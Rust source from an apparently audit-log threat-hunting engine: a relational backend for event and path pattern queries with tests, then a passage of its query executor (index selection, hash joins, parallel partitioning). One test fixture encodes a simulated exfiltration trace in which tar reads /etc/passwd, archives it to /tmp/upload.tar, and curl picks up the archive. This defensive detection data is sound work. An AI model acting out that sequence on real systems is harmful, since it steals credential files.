            Expr::CmpCol { left: col(e, "object"), op: CmpOp::Eq, right: col(o, "id") },
            Expr::CmpLit {
                col: col(e, "kind"),
                op: CmpOp::Eq,
                lit: Literal::Str(q.object.class.event_kind().to_string()),
            },
        ];
        if let Some(p) = &q.event_pred {
            conds.push(pred_to_expr(e, p, self.dict())?);
        }
        if let Some(p) = &q.subject.filter {
            conds.push(pred_to_expr(s, p, self.dict())?);
        }
        if let Some(p) = &q.object.filter {
            conds.push(pred_to_expr(o, p, self.dict())?);
        }
        // One TBQL variable bound as both subject and object: the text
        // compiler enforced this via a shared alias; here it is explicit.
        if q.subject_is_object {
            conds.push(Expr::CmpCol { left: col(s, "id"), op: CmpOp::Eq, right: col(o, "id") });
        }
        // Delta evaluation: restrict to the caller's event-id set (the
        // epoch's freshly ingested events). events.id is hash-indexed, so
        // the scan cost tracks the delta size, not the table size.
        if let Some(ids) = &q.event_id_in {
            conds.push(in_expr_on(e, "id", ids));
        }
        // Propagated ids constrain both the entity alias and — far more
        // importantly — the event columns, so the events scan runs through
        // the subject/object hash indexes instead of the larger optype one.
        for (sel, alias, evt_col) in [(&q.subject, s, "subject"), (&q.object, o, "object")] {
            if let Some(ids) = &sel.id_in {
                conds.push(id_in_expr(alias, ids));
                conds.push(in_expr_on(e, evt_col, ids));
            }
        }
        let sel = Select {
            distinct: false,
            projections: vec![
                Projection::Col(col(s, "id")),
                Projection::Col(col(o, "id")),
                Projection::Col(col(e, "id")),
                Projection::Col(col(e, "starttime")),
                Projection::Col(col(e, "endtime")),
            ],
            from: vec![
                TableRef { table: table_for_class(q.subject.class).to_string(), alias: s.into() },
                TableRef { table: "events".to_string(), alias: e.into() },
                TableRef { table: table_for_class(q.object.class).to_string(), alias: o.into() },
            ],
            where_clause: and_all(conds),
            order_by: vec![],
            limit: None,
        };
        let mut r = self.run_select(&sel, stats)?;
        // Struct-of-arrays straight from the columnar result: the five int
        // columns *are* the match vectors — moved, not rebuilt row by row.
        Ok(PatternMatches {
            subj: r.take_ints(0),
            obj: r.take_ints(1),
            evt: r.take_ints(2),
            start: r.take_ints(3),
            end: r.take_ints(4),
            has_event: true,
        })
    }

    fn match_path_pattern(
        &self,
        q: &PathPatternQuery,
        stats: &mut BackendStats,
    ) -> Result<PatternMatches> {
        // A relational store answers exactly the single-hop shape (it is an
        // event lookup); longer paths belong to the graph backend.
        if q.min_hops != 1 || q.max_hops != Some(1) {
            return Err(Error::semantic(
                "relational backend supports single-hop path patterns only",
            ));
        }
        let eq = EventPatternQuery {
            subject: q.subject.clone(),
            object: q.object.clone(),
            event_pred: q.final_hop_pred.clone(),
            event_id_in: q.final_event_id_in.clone(),
            subject_is_object: q.subject_is_object,
        };
        let mut m = self.match_event_pattern(&eq, stats)?;
        m.has_event = q.want_event;
        Ok(m)
    }

    fn fetch_attr(
        &self,
        source: AttrSource,
        attr: &str,
        ids: &[i64],
        stats: &mut BackendStats,
    ) -> Result<Vec<(i64, SVal)>> {
        let table = match source {
            AttrSource::Entity(class) => table_for_class(class),
            AttrSource::Event => "events",
        };
        let alias = "x";
        let mut out = Vec::with_capacity(ids.len());
        for chunk in ids.chunks(FETCH_CHUNK) {
            let sel = Select {
                distinct: false,
                projections: vec![
                    Projection::Col(col(alias, "id")),
                    Projection::Col(col(alias, attr)),
                ],
                from: vec![TableRef { table: table.to_string(), alias: alias.into() }],
                where_clause: Some(in_expr_on(alias, "id", chunk)),
                order_by: vec![],
                limit: None,
            };
            let r = self.run_select(&sel, stats)?;
            for i in 0..r.n_rows() {
                if let Some(id) = r.cols[0].get(i).as_int() {
                    out.push((id, r.cols[1].get(i)));
                }
            }
        }
        Ok(out)
    }
}

/// Builds one row in schema column order: `pinned` columns come from the
/// caller's explicit ids, the rest are looked up in `fields` by attribute
/// name (absent attributes insert NULL).
fn row_from_fields<'a>(
    schema: &TableSchema,
    pinned: &[(&str, i64)],
    fields: &'a [Field<'a>],
) -> Vec<Ins<'a>> {
    schema
        .columns
        .iter()
        .map(|c| {
            if let Some(&(_, v)) = pinned.iter().find(|(n, _)| *n == c.name) {
                return Ins::Int(v);
            }
            match fields.iter().find(|(n, _)| *n == c.name) {
                Some((_, FieldValue::Int(i))) => Ins::Int(*i),
                Some((_, FieldValue::Str(s))) => Ins::Str(s),
                None => Ins::Null,
            }
        })
        .collect()
}

impl MutableBackend for Database {
    fn insert_entity(
        &mut self,
        class: EntityClass,
        id: i64,
        fields: &[Field<'_>],
        stats: &mut BackendStats,
    ) -> Result<()> {
        let table = table_for_class(class);
        // The row only borrows `fields`, so the schema borrow ends here —
        // no schema clone on the ingest hot path.
        let row = {
            let schema = &self
                .table(table)
                .ok_or_else(|| Error::storage(format!("unknown table `{table}`")))?
                .schema;
            row_from_fields(schema, &[("id", id)], fields)
        };
        self.insert(table, &row)?;
        stats.items_inserted += 1;
        Ok(())
    }

    fn insert_event(
        &mut self,
        id: i64,
        subject: i64,
        object: i64,
        fields: &[Field<'_>],
        stats: &mut BackendStats,
    ) -> Result<()> {
        let row = {
            let schema = &self
                .table("events")
                .ok_or_else(|| Error::storage("unknown table `events`"))?
                .schema;
            row_from_fields(schema, &[("id", id), ("subject", subject), ("object", object)], fields)
        };
        self.insert("events", &row)?;
        stats.items_inserted += 1;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::db::Ins;
    use crate::schema::{ColumnDef, ColumnType};
    use crate::TableSchema;
    use raptor_storage::EntitySel;

    /// tar reads /etc/passwd then writes /tmp/upload.tar; curl connects out.
    fn audit_db() -> Database {
        let mut db = Database::new();
        db.create_table(TableSchema::new(
            "processes",
            vec![
                ColumnDef::new("id", ColumnType::Int),
                ColumnDef::new("exename", ColumnType::Str),
                ColumnDef::new("user", ColumnType::Str),
            ],
        ))
        .unwrap();
        db.create_table(TableSchema::new(
            "files",
            vec![ColumnDef::new("id", ColumnType::Int), ColumnDef::new("name", ColumnType::Str)],
        ))
        .unwrap();
        db.create_table(TableSchema::new(
            "events",
            vec![
                ColumnDef::new("id", ColumnType::Int),
                ColumnDef::new("subject", ColumnType::Int),
                ColumnDef::new("object", ColumnType::Int),
                ColumnDef::new("optype", ColumnType::Str),
                ColumnDef::new("kind", ColumnType::Str),
                ColumnDef::new("starttime", ColumnType::Time),
                ColumnDef::new("endtime", ColumnType::Time),
            ],
        ))
        .unwrap();
        db.insert("processes", &[Ins::Int(0), Ins::Str("/bin/tar"), Ins::Str("root")]).unwrap();
        db.insert("processes", &[Ins::Int(1), Ins::Str("/usr/bin/curl"), Ins::Str("root")])
            .unwrap();
        db.insert("files", &[Ins::Int(2), Ins::Str("/etc/passwd")]).unwrap();
        db.insert("files", &[Ins::Int(3), Ins::Str("/tmp/upload.tar")]).unwrap();
        for (id, s, o, op, t) in
            [(0, 0, 2, "read", 100), (1, 0, 3, "write", 200), (2, 1, 3, "read", 300)]
        {
            db.insert(
                "events",
                &[
                    Ins::Int(id),
                    Ins::Int(s),
                    Ins::Int(o),
                    Ins::Str(op),
                    Ins::Str("file"),
                    Ins::Int(t),
                    Ins::Int(t + 10),
                ],
            )
            .unwrap();
        }
        db
    }

    fn like(attr: &str, pattern: &str) -> Pred {
        Pred::Like { attr: attr.into(), pattern: pattern.into(), negated: false }
    }

    fn op_eq(db: &Database, name: &str) -> Pred {
        Pred::Cmp {
            attr: "optype".into(),
            op: raptor_storage::CmpOp::Eq,
            value: SVal::Str(db.dict().intern(name)),
        }
    }

    #[test]
    fn candidates_sorted_distinct() {
        let db = audit_db();
        let mut stats = BackendStats::default();
        let ids = db
            .entity_candidates(EntityClass::Process, &like("exename", "%bin%"), &mut stats)
            .unwrap();
        assert_eq!(ids, vec![0, 1]);
        assert_eq!(stats.data_queries, 1);
        assert_eq!(stats.text_parses, 0);
    }

    #[test]
    fn event_pattern_typed_match() {
        let db = audit_db();
        let mut stats = BackendStats::default();
        let q = EventPatternQuery {
            subject: EntitySel::of(EntityClass::Process, Some(like("exename", "%/bin/tar%"))),
            object: EntitySel::of(EntityClass::File, Some(like("name", "%/etc/passwd%"))),
            event_pred: Some(op_eq(&db, "read")),
            event_id_in: None,
            subject_is_object: false,
        };
        let m = db.match_event_pattern(&q, &mut stats).unwrap();
        assert_eq!(m.len(), 1);
        assert_eq!((m.subj[0], m.obj[0], m.evt[0], m.start[0], m.end[0]), (0, 2, 0, 100, 110));
        assert!(m.has_event);
    }

    #[test]
    fn propagated_ids_filter() {
        let db = audit_db();
        let mut stats = BackendStats::default();
        let mut subject = EntitySel::of(EntityClass::Process, None);
        subject.id_in = Some(vec![1]);
        let q = EventPatternQuery {
            subject,
            object: EntitySel::of(EntityClass::File, None),
            event_pred: Some(op_eq(&db, "read")),
            event_id_in: None,
            subject_is_object: false,
        };
        let m = db.match_event_pattern(&q, &mut stats).unwrap();
        assert_eq!(m.len(), 1);
        assert_eq!(m.subj[0], 1);
        // Empty propagation set matches nothing (and stays well-formed).
        let mut subject = EntitySel::of(EntityClass::Process, None);
        subject.id_in = Some(vec![]);
        let q = EventPatternQuery {
            subject,
            object: EntitySel::of(EntityClass::File, None),
            event_pred: None,
            event_id_in: None,
            subject_is_object: false,
        };
        assert!(db.match_event_pattern(&q, &mut stats).unwrap().is_empty());
    }

    #[test]
    fn single_hop_path_served_relationally() {
        let db = audit_db();
        let mut stats = BackendStats::default();
        let q = PathPatternQuery {
            subject: EntitySel::of(EntityClass::Process, None),
            object: EntitySel::of(EntityClass::File, None),
            min_hops: 1,
            max_hops: Some(1),
            hop_cap: 8,
            final_hop_pred: Some(op_eq(&db, "write")),
            final_event_id_in: None,
            want_event: true,
            subject_is_object: false,
        };
        let m = db.match_path_pattern(&q, &mut stats).unwrap();
        assert_eq!(m.len(), 1);
        assert_eq!(m.obj[0], 3);
        // Multi-hop is the graph backend's job.
        let q = PathPatternQuery { max_hops: Some(3), ..q };
        assert!(db.match_path_pattern(&q, &mut stats).is_err());
    }

    #[test]
    fn attr_fetch_typed() {
        let db = audit_db();
        let mut stats = BackendStats::default();
        let got = db
            .fetch_attr(
                AttrSource::Entity(EntityClass::Process),
                "exename",
                &[0, 1, 99],
                &mut stats,
            )
            .unwrap();
        assert_eq!(
            got,
            vec![
                (0, SVal::Str(db.dict().get("/bin/tar").unwrap())),
                (1, SVal::Str(db.dict().get("/usr/bin/curl").unwrap()))
            ]
        );
        let evs = db.fetch_attr(AttrSource::Event, "starttime", &[2], &mut stats).unwrap();
        assert_eq!(evs, vec![(2, SVal::Int(300))]);
    }
}
