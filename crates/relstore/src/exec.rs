//! Query execution.
//!
//! Pipeline: per-alias **scan** (access-path selection + residual filter) →
//! left-deep **joins** in FROM order (hash join when an equi conjunct links
//! the new alias to bound ones, nested-loop otherwise; residual conjuncts
//! apply as soon as their aliases are bound) → projection → DISTINCT →
//! ORDER BY → LIMIT.
//!
//! Scans pick the cheapest applicable access path per pushed-down conjunct:
//! hash-index point/IN lookups, B-tree ranges for integer comparisons,
//! trigram candidate pruning for `LIKE '%lit%'`. Every path re-verifies the
//! full predicate, so index choice is purely a performance decision.
//!
//! **Parallelism** (the parallel execution plane): candidate re-verification
//! — the pushed-down predicate evaluated over the scan's candidate rows,
//! whether they came from an index or a full scan — is partitioned over
//! row-chunk ranges, and the probe side of every hash join is partitioned
//! over tuple ranges, both through the database's
//! [`Pool`](raptor_common::pool::Pool). Partition outputs are concatenated
//! in partition order, so row order, result rows and every [`ExecStats`]
//! counter are byte-identical to the sequential execution at any thread
//! count; a one-thread pool takes the exact sequential code path.

use raptor_common::error::{Error, Result};
use raptor_common::hash::FxHashMap;
use raptor_common::intern::{SharedDict, Sym};

use crate::db::Database;
use crate::like::{containment_literal, like_match};
use crate::plan::{QueryPlan, ScanPlan};
use crate::sql::ast::{CmpOp, ColRef, Expr, Literal, Projection};
use crate::table::{RowId, Table};
use crate::value::Value;

/// Candidate rows below which a scan's predicate re-verification is not
/// worth partitioning (per-row evaluation is tens of nanoseconds; spawning
/// scoped workers costs tens of microseconds).
const PAR_MIN_FILTER_ROWS: usize = 4096;

/// Probe-side tuples below which a hash join probe stays sequential (each
/// probed tuple does a key build, a hash lookup and per-match clones —
/// heavier than a filter row, so the bar is lower).
const PAR_MIN_PROBE_TUPLES: usize = 1024;

/// Execution counters, surfaced for benchmarks and ablations.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct ExecStats {
    /// Rows touched by scans (before residual filtering).
    pub rows_scanned: usize,
    /// Tuples materialized across all join steps.
    pub tuples_built: usize,
    /// Scans that used an index access path.
    pub index_scans: usize,
    /// Scans that fell back to a full table scan.
    pub full_scans: usize,
}

/// A bound column: (alias slot, column index).
#[derive(Clone, Copy, Debug)]
struct Slot {
    alias: usize,
    col: usize,
}

/// Expression with names resolved to slots; string literals are bound to
/// their dictionary handles so per-row equality is an integer compare.
#[derive(Clone, Debug)]
enum BExpr {
    CmpLit { slot: Slot, op: CmpOp, lit: BLit },
    CmpCol { left: Slot, op: CmpOp, right: Slot },
    Like { slot: Slot, pattern: String, negated: bool },
    InList { slot: Slot, set: Vec<BLit>, negated: bool },
    And(Box<BExpr>, Box<BExpr>),
    Or(Box<BExpr>, Box<BExpr>),
    Not(Box<BExpr>),
}

#[derive(Clone, Debug)]
enum BLit {
    Int(i64),
    /// An interned string literal: equality against a row cell is a handle
    /// compare; ordered comparisons resolve both sides. Typed requests
    /// arrive with the handle pre-bound (`Literal::Interned`), parsed text
    /// literals bind through one dictionary lookup here.
    Sym(Sym),
    /// A parsed string literal absent from the dictionary: no row can equal
    /// it; ordered comparisons fall back to the raw text.
    Raw(Box<str>),
}

struct Binder<'a> {
    /// alias → slot index
    slots: FxHashMap<&'a str, usize>,
    /// slot → table
    tables: &'a [&'a Table],
    dict: &'a SharedDict,
}

impl<'a> Binder<'a> {
    fn bind_col(&self, c: &ColRef) -> Result<Slot> {
        let q = c.qualifier.as_deref().ok_or_else(|| {
            Error::semantic(format!("internal: unresolved column `{}`", c.column))
        })?;
        let &alias =
            self.slots.get(q).ok_or_else(|| Error::semantic(format!("unknown alias `{q}`")))?;
        let col = self.tables[alias].schema.require_column(&c.column)?;
        Ok(Slot { alias, col })
    }

    fn bind_lit(&self, l: &Literal) -> BLit {
        match l {
            Literal::Int(i) => BLit::Int(*i),
            Literal::Str(s) => match self.dict.get(s) {
                Some(sym) => BLit::Sym(sym),
                None => BLit::Raw(s.as_str().into()),
            },
            Literal::Interned(sym) => BLit::Sym(*sym),
        }
    }

    fn bind(&self, e: &Expr) -> Result<BExpr> {
        Ok(match e {
            Expr::CmpLit { col, op, lit } => {
                BExpr::CmpLit { slot: self.bind_col(col)?, op: *op, lit: self.bind_lit(lit) }
            }
            Expr::CmpCol { left, op, right } => {
                BExpr::CmpCol { left: self.bind_col(left)?, op: *op, right: self.bind_col(right)? }
            }
            Expr::Like { col, pattern, negated } => BExpr::Like {
                slot: self.bind_col(col)?,
                pattern: pattern.clone(),
                negated: *negated,
            },
            Expr::InList { col, list, negated } => BExpr::InList {
                slot: self.bind_col(col)?,
                set: list.iter().map(|l| self.bind_lit(l)).collect(),
                negated: *negated,
            },
            Expr::And(a, b) => BExpr::And(Box::new(self.bind(a)?), Box::new(self.bind(b)?)),
            Expr::Or(a, b) => BExpr::Or(Box::new(self.bind(a)?), Box::new(self.bind(b)?)),
            Expr::Not(inner) => BExpr::Not(Box::new(self.bind(inner)?)),
        })
    }
}

fn cmp_values(v: Value, op: CmpOp, lit: &BLit, dict: &SharedDict) -> bool {
    use std::cmp::Ordering::*;
    let ord = match (v, lit) {
        (Value::Int(a), BLit::Int(b)) => a.cmp(b),
        (Value::Str(s), BLit::Sym(l)) => {
            // Fast path: equality is a dictionary-handle compare.
            if matches!(op, CmpOp::Eq | CmpOp::Ne) {
                let eq = s == *l;
                return if matches!(op, CmpOp::Eq) { eq } else { !eq };
            }
            dict.resolve(s).cmp(dict.resolve(*l))
        }
        (Value::Str(s), BLit::Raw(raw)) => {
            // Literal not in the dictionary ⇒ no row equals it.
            if matches!(op, CmpOp::Eq | CmpOp::Ne) {
                return matches!(op, CmpOp::Ne);
            }
            dict.resolve(s).cmp(raw.as_ref())
        }
        // Type mismatch or NULL: no comparison holds (SQL-ish semantics).
        _ => return false,
    };
    match op {
        CmpOp::Eq => ord == Equal,
        CmpOp::Ne => ord != Equal,
        CmpOp::Lt => ord == Less,
        CmpOp::Le => ord != Greater,
        CmpOp::Gt => ord == Greater,
        CmpOp::Ge => ord != Less,
    }
}

fn eval(e: &BExpr, tuple: &[RowId], tables: &[&Table], dict: &SharedDict) -> bool {
    match e {
        BExpr::CmpLit { slot, op, lit } => {
            let v = tables[slot.alias].cell(tuple[slot.alias], slot.col);
            cmp_values(v, *op, lit, dict)
        }
        BExpr::CmpCol { left, op, right } => {
            let a = tables[left.alias].cell(tuple[left.alias], left.col);
            let b = tables[right.alias].cell(tuple[right.alias], right.col);
            if a.is_null() || b.is_null() {
                return false;
            }
            let ord = a.cmp_with(b, dict);
            match op {
                CmpOp::Eq => ord == std::cmp::Ordering::Equal,
                CmpOp::Ne => ord != std::cmp::Ordering::Equal,
                CmpOp::Lt => ord == std::cmp::Ordering::Less,
                CmpOp::Le => ord != std::cmp::Ordering::Greater,
                CmpOp::Gt => ord == std::cmp::Ordering::Greater,
                CmpOp::Ge => ord != std::cmp::Ordering::Less,
            }
        }
        BExpr::Like { slot, pattern, negated } => {
            let v = tables[slot.alias].cell(tuple[slot.alias], slot.col);
            let m = match v {
                Value::Str(s) => like_match(pattern, dict.resolve(s)),
                _ => false,
            };
            m != *negated
        }
        BExpr::InList { slot, set, negated } => {
            let v = tables[slot.alias].cell(tuple[slot.alias], slot.col);
            let m = set.iter().any(|l| cmp_values(v, CmpOp::Eq, l, dict));
            m != *negated
        }
        BExpr::And(a, b) => eval(a, tuple, tables, dict) && eval(b, tuple, tables, dict),
        BExpr::Or(a, b) => eval(a, tuple, tables, dict) || eval(b, tuple, tables, dict),
        BExpr::Not(inner) => !eval(inner, tuple, tables, dict),
    }
}

/// Chooses an index access path for one pushed-down conjunct, if possible.
/// Returns candidate row ids (a superset of matches among which the full
/// predicate is re-verified), or `None` if no index applies.
fn access_path(db: &Database, scan: &ScanPlan, conjunct: &Expr) -> Option<Vec<RowId>> {
    match conjunct {
        Expr::CmpLit { col, op: CmpOp::Eq, lit } => {
            let idx = db.hash_index(&scan.table, &col.column)?;
            let key = match lit {
                Literal::Int(i) => Value::Int(*i),
                // Typed requests arrive pre-interned: no dictionary lookup.
                Literal::Interned(sym) => Value::Str(*sym),
                // A string literal absent from the dictionary equals no row.
                Literal::Str(s) => match db.dict().get(s) {
                    Some(sym) => Value::Str(sym),
                    None => return Some(Vec::new()),
                },
            };
            Some(idx.get(key).to_vec())
        }
        Expr::InList { col, list, negated: false } => {
            let idx = db.hash_index(&scan.table, &col.column)?;
            let mut rows = Vec::new();
            for lit in list {
                let key = match lit {
                    Literal::Int(i) => Value::Int(*i),
                    Literal::Interned(sym) => Value::Str(*sym),
                    Literal::Str(s) => match db.dict().get(s) {
                        Some(sym) => Value::Str(sym),
                        None => continue,
                    },
                };
                rows.extend_from_slice(idx.get(key));
            }
            rows.sort_unstable();
            rows.dedup();
            Some(rows)
        }
        Expr::CmpLit { col, op, lit: Literal::Int(i) } => {
            let idx = db.btree_index(&scan.table, &col.column)?;
            let (lo, hi) = match op {
                CmpOp::Lt => (i64::MIN, i - 1),
                CmpOp::Le => (i64::MIN, *i),
                CmpOp::Gt => (i + 1, i64::MAX),
                CmpOp::Ge => (*i, i64::MAX),
                _ => return None,
            };
            Some(idx.range(lo, hi))
        }
        Expr::Like { col, pattern, negated: false } => {
            let lit = containment_literal(pattern)?;
            let tri = db.trigram_index(&scan.table, &col.column)?;
            let candidates = tri.candidates(&lit)?;
            // Verify the LIKE on the (small) dictionary, then fan out to rows.
            let hash = db.hash_index(&scan.table, &col.column)?;
            let mut rows = Vec::new();
            for sym in candidates {
                if like_match(pattern, db.dict().resolve(sym)) {
                    rows.extend_from_slice(hash.get(Value::Str(sym)));
                }
            }
            rows.sort_unstable();
            rows.dedup();
            Some(rows)
        }
        _ => None,
    }
}

/// Estimated candidate-row count for one indexable conjunct, read from the
/// table's maintained statistics. `Some` exactly when an applicable index
/// exists for the conjunct's shape (mirrors [`access_path`]); the planner
/// materializes only the cheapest estimate instead of every path.
fn conjunct_estimate(
    db: &Database,
    scan: &ScanPlan,
    ts: &raptor_storage::TableStats,
    conjunct: &Expr,
) -> Option<f64> {
    let rows = ts.rows() as f64;
    // A column with no recorded non-null values matches no equality/range.
    let col_frac = |col: &ColRef, f: &dyn Fn(&raptor_storage::ColumnStats) -> f64| -> f64 {
        ts.column(&col.column).map_or(0.0, f)
    };
    // Equality fractions key the symbol-frequency maps directly; a parsed
    // literal does one dictionary lookup, a typed (pre-interned) one none.
    let eq_frac = |col: &ColRef, lit: &Literal| -> f64 {
        match lit {
            Literal::Int(i) => col_frac(col, &|c| c.eq_fraction_int(*i)),
            Literal::Interned(sym) => col_frac(col, &|c| c.eq_fraction_sym(*sym)),
            Literal::Str(s) => match db.dict().get(s) {
                Some(sym) => col_frac(col, &|c| c.eq_fraction_sym(sym)),
                None => 0.0,
            },
        }
    };
    match conjunct {
        Expr::CmpLit { col, op: CmpOp::Eq, lit } => {
            db.hash_index(&scan.table, &col.column)?;
            Some(eq_frac(col, lit) * rows)
        }
        Expr::InList { col, list, negated: false } => {
            db.hash_index(&scan.table, &col.column)?;
            let frac: f64 = list.iter().map(|lit| eq_frac(col, lit)).sum();
            Some(frac.min(1.0) * rows)
        }
        Expr::CmpLit { col, op, lit: Literal::Int(i) } => {
            if !matches!(op, CmpOp::Lt | CmpOp::Le | CmpOp::Gt | CmpOp::Ge) {
                return None;
            }
            db.btree_index(&scan.table, &col.column)?;
            Some(col_frac(col, &|c| c.cmp_fraction(storage_cmp(*op), *i)) * rows)
        }
        Expr::Like { col, pattern, negated: false } => {
            containment_literal(pattern)?;
            db.trigram_index(&scan.table, &col.column)?;
            db.hash_index(&scan.table, &col.column)?;
            Some(col_frac(col, &|c| c.like_fraction(pattern, db.dict())) * rows)
        }
        _ => None,
    }
}

fn storage_cmp(op: CmpOp) -> raptor_storage::CmpOp {
    match op {
        CmpOp::Eq => raptor_storage::CmpOp::Eq,
        CmpOp::Ne => raptor_storage::CmpOp::Ne,
        CmpOp::Lt => raptor_storage::CmpOp::Lt,
        CmpOp::Le => raptor_storage::CmpOp::Le,
        CmpOp::Gt => raptor_storage::CmpOp::Gt,
        CmpOp::Ge => raptor_storage::CmpOp::Ge,
    }
}

/// Runs one scan: pick the most selective index path among the pushed-down
/// conjuncts, then re-verify the whole predicate.
///
/// Access-path choice is **statistics-driven**: per-conjunct candidate
/// counts are estimated from [`Database::store_stats`] and only the
/// cheapest path is materialized. (The seed behavior — materialize every
/// applicable path and keep the smallest — remains as the fallback when
/// stats carry no signal for the table.)
fn run_scan(db: &Database, scan: &ScanPlan, stats: &mut ExecStats) -> Result<Vec<RowId>> {
    let table = db
        .table(&scan.table)
        .ok_or_else(|| Error::storage(format!("unknown table `{}`", scan.table)))?;
    let tables = [table];
    let binder = Binder {
        slots: std::iter::once((scan.alias.as_str(), 0usize)).collect(),
        tables: &tables,
        dict: db.dict(),
    };

    let candidates: Vec<RowId> = match &scan.predicate {
        Some(pred) => {
            let conjuncts = pred.clone().conjuncts();
            let cheapest = db.store_stats().table(&scan.table).and_then(|ts| {
                conjuncts
                    .iter()
                    .enumerate()
                    .filter_map(|(i, c)| conjunct_estimate(db, scan, ts, c).map(|e| (i, e)))
                    .min_by(|a, b| a.1.total_cmp(&b.1).then(a.0.cmp(&b.0)))
            });
            let best = match cheapest.and_then(|(i, _)| access_path(db, scan, &conjuncts[i])) {
                Some(rows) => Some(rows),
                None => {
                    // Fallback: try every conjunct, keep the smallest set.
                    let mut best: Option<Vec<RowId>> = None;
                    for conjunct in &conjuncts {
                        if let Some(rows) = access_path(db, scan, conjunct) {
                            if best.as_ref().is_none_or(|b| rows.len() < b.len()) {
                                best = Some(rows);
                            }
                        }
                    }
                    best
                }
            };
            match best {
                Some(rows) => {
                    stats.index_scans += 1;
                    rows
                }
                None => {
                    stats.full_scans += 1;
                    (0..table.len() as RowId).collect()
                }
            }
        }
        None => {
            stats.full_scans += 1;
            (0..table.len() as RowId).collect()
        }
    };
    stats.rows_scanned += candidates.len();

    match &scan.predicate {
        Some(pred) => {
            // Re-verify the full predicate over the candidates, partitioned
            // over row-chunk ranges; concatenating the partitions in order
            // reproduces the sequential row order exactly.
            let bound = binder.bind(pred)?;
            let dict = db.dict();
            let parts = db.pool().run_partitioned(candidates.len(), PAR_MIN_FILTER_ROWS, |r| {
                candidates[r]
                    .iter()
                    .copied()
                    .filter(|&row| eval(&bound, &[row], &tables, dict))
                    .collect::<Vec<RowId>>()
            });
            Ok(parts.concat())
        }
        None => Ok(candidates),
    }
}

/// An equi-join key extracted from a residual conjunct.
struct EquiKey {
    bound: Slot,
    new: Slot,
}

/// Probes a hash join build table with every current tuple, extending
/// matching tuples with the new slot's row. The probe side is partitioned
/// over tuple ranges through the pool; partitions concatenate in order, so
/// output tuple order is byte-identical to the sequential probe.
fn probe_join<K, F>(
    pool: raptor_common::pool::Pool,
    tuples: &[Vec<RowId>],
    slot: usize,
    build: &FxHashMap<K, Vec<RowId>>,
    key_of: F,
) -> Vec<Vec<RowId>>
where
    K: Eq + std::hash::Hash + Sync,
    F: Fn(&[RowId]) -> K + Sync,
{
    let parts = pool.run_partitioned(tuples.len(), PAR_MIN_PROBE_TUPLES, |range| {
        let mut out = Vec::with_capacity(range.len());
        for t in &tuples[range] {
            if let Some(matches) = build.get(&key_of(t)) {
                for &r in matches {
                    let mut nt = t.clone();
                    nt[slot] = r;
                    out.push(nt);
                }
            }
        }
        out
    });
    parts.concat()
}

/// Executes a plan, returning projected rows.
pub fn execute(db: &Database, plan: &QueryPlan) -> Result<(QueryResultCore, ExecStats)> {
    let mut stats = ExecStats::default();
    let tables: Vec<&Table> = plan
        .scans
        .iter()
        .map(|s| {
            db.table(&s.table).ok_or_else(|| Error::storage(format!("unknown table `{}`", s.table)))
        })
        .collect::<Result<Vec<_>>>()?;
    let binder = Binder {
        slots: plan.scans.iter().enumerate().map(|(i, s)| (s.alias.as_str(), i)).collect(),
        tables: &tables,
        dict: db.dict(),
    };

    // Bind residuals once; track which are already applied.
    let residual_bound: Vec<(BExpr, Vec<usize>)> = plan
        .residuals
        .iter()
        .map(|r| {
            let b = binder.bind(r)?;
            let mut cols = Vec::new();
            r.collect_cols(&mut cols);
            let mut slots: Vec<usize> =
                cols.iter().map(|c| binder.slots[c.qualifier.as_deref().unwrap()]).collect();
            slots.sort_unstable();
            slots.dedup();
            Ok((b, slots))
        })
        .collect::<Result<Vec<_>>>()?;
    let mut residual_done = vec![false; residual_bound.len()];

    // Left-deep pipeline. Tuples hold one RowId per bound alias, and a
    // sentinel for not-yet-bound aliases.
    const UNBOUND: RowId = RowId::MAX;
    let nslots = plan.scans.len();
    let mut tuples: Vec<Vec<RowId>> = vec![];
    let mut bound_slots: Vec<usize> = Vec::new();

    for (slot, scan) in plan.scans.iter().enumerate() {
        let rows = run_scan(db, scan, &mut stats)?;
        if slot == 0 {
            tuples = rows
                .into_iter()
                .map(|r| {
                    let mut t = vec![UNBOUND; nslots];
                    t[0] = r;
                    t
                })
                .collect();
        } else {
            // Find equi-join keys connecting `slot` to already-bound slots.
            let mut keys: Vec<EquiKey> = Vec::new();
            for (i, (b, slots)) in residual_bound.iter().enumerate() {
                if residual_done[i] {
                    continue;
                }
                if let BExpr::CmpCol { left, op: CmpOp::Eq, right } = b {
                    let connects =
                        |a: &Slot, b: &Slot| a.alias == slot && bound_slots.contains(&b.alias);
                    if connects(right, left) {
                        keys.push(EquiKey { bound: *left, new: *right });
                        residual_done[i] = true;
                    } else if connects(left, right) {
                        keys.push(EquiKey { bound: *right, new: *left });
                        residual_done[i] = true;
                    }
                }
                let _ = slots;
            }
            if keys.is_empty() {
                // Cartesian extension (rare: disconnected patterns).
                let mut next = Vec::with_capacity(tuples.len() * rows.len().max(1));
                for t in &tuples {
                    for &r in &rows {
                        let mut nt = t.clone();
                        nt[slot] = r;
                        next.push(nt);
                    }
                }
                tuples = next;
            } else if let [k] = keys.as_slice() {
                // Single-key hash join (the common case: one equi conjunct
                // links the new alias): key on the `Value` directly, no
                // per-row key vector allocation.
                let mut build: FxHashMap<Value, Vec<RowId>> =
                    FxHashMap::with_capacity_and_hasher(rows.len(), Default::default());
                for &r in &rows {
                    build.entry(tables[slot].cell(r, k.new.col)).or_default().push(r);
                }
                tuples = probe_join(db.pool(), &tuples, slot, &build, |t| {
                    tables[k.bound.alias].cell(t[k.bound.alias], k.bound.col)
                });
            } else {
                // Hash join on a compound key: build on the new scan's rows.
                let mut build: FxHashMap<Vec<Value>, Vec<RowId>> =
                    FxHashMap::with_capacity_and_hasher(rows.len(), Default::default());
                for &r in &rows {
                    let key: Vec<Value> =
                        keys.iter().map(|k| tables[slot].cell(r, k.new.col)).collect();
                    build.entry(key).or_default().push(r);
                }
                tuples = probe_join(db.pool(), &tuples, slot, &build, |t| {
                    keys.iter()
                        .map(|k| tables[k.bound.alias].cell(t[k.bound.alias], k.bound.col))
                        .collect::<Vec<Value>>()
                });
            }
        }
        bound_slots.push(slot);
        stats.tuples_built += tuples.len();

        // Apply any residual whose slots are now all bound.
        for (i, (b, slots)) in residual_bound.iter().enumerate() {
            if residual_done[i] {
                continue;
            }
            if slots.iter().all(|s| bound_slots.contains(s)) {
                tuples.retain(|t| eval(b, t, &tables, db.dict()));
                residual_done[i] = true;
            }
        }
        if tuples.is_empty() {
            // Early exit: nothing downstream can resurrect rows, but we must
